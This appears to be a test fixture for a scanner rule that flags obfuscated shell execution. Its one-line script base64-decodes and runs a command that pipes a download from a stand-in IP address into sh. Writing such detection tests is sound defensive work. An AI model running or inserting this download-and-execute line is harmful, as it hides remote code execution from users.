# expect: shell.decode_exec critical
# path: scripts/t.sh
#!/bin/sh
python3 -c "import base64,os;os.system(base64.b64decode('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo'))"
